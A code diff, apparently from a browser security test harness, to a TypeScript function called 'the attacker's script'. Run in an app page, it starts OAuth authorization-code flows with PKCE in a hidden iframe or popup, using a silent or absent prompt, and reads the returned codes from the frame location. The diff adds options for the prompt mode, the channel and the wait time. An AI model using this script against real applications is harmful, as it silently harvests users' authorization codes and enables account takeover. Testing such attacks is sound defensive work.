@@ -22,10 +22,24 @@ export interface OwnFlowOptions {
   clientId: string;
   redirectUris: string[];
   scope: string;
+  /** `'none'` (default): the user's OP session answers at once; `null`: no prompt (a client the user never used: the dev OP grants consent without a page). */
+  prompt?: 'none' | null;
+  /** Where the answer is made to land: default both, a hidden iframe and a popup. */
+  via?: ('iframe' | 'popup')[];
+  /** How long each attempt is watched, in milliseconds (default 2500; a flow through the consent step takes longer). */
+  watchMs?: number;
 }
 
 /** The attacker's script, run in the app page (Playwright's evaluate, or its source through WebDriver). */
-export async function ownFlowInPage({ op, clientId, redirectUris, scope }: OwnFlowOptions): Promise<{ attempts: Attempt[]; received: string[] }> {
+export async function ownFlowInPage({
+  op,
+  clientId,
+  redirectUris,
+  scope,
+  prompt = 'none',
+  via = ['iframe', 'popup'],
+  watchMs = 2500,
+}: OwnFlowOptions): Promise<{ attempts: Attempt[]; received: string[] }> {
   const b64 = (bytes: Uint8Array): string =>
     btoa(String.fromCharCode(...bytes))
       .replace(/\+/g, '-')
@@ -36,7 +50,7 @@ export async function ownFlowInPage({ op, clientId, redirectUris, scope }: OwnFl
   const attempts: Attempt[] = [];
   const watch = async (location: () => string): Promise<string[]> => {
     const read = new Set<string>();
-    for (let i = 0; i < 25; i++) {
+    for (let i = 0; i < watchMs / 100; i++) {
       await new Promise((resolve) => setTimeout(resolve, 100));
       try {
         read.add(location());
@@ -47,7 +61,7 @@ export async function ownFlowInPage({ op, clientId, redirectUris, scope }: OwnFl
     return [...read];
   };
   for (const redirectUri of redirectUris) {
-    for (const how of ['iframe', 'popup'] as const) {
+    for (const how of via) {
       const verifier = b64(crypto.getRandomValues(new Uint8Array(32)));
       const challenge = b64(new Uint8Array(await crypto.subtle.digest('SHA-256', new TextEncoder().encode(verifier))));
       const url = new URL(`${op}/auth`);
@@ -56,7 +70,7 @@ export async function ownFlowInPage({ op, clientId, redirectUris, scope }: OwnFl
         redirect_uri: redirectUri,
         response_type: 'code',
         scope,
-        prompt: 'none',
+        ...(prompt ? { prompt } : {}),
         code_challenge: challenge,
         code_challenge_method: 'S256',
         state: 'attacker',
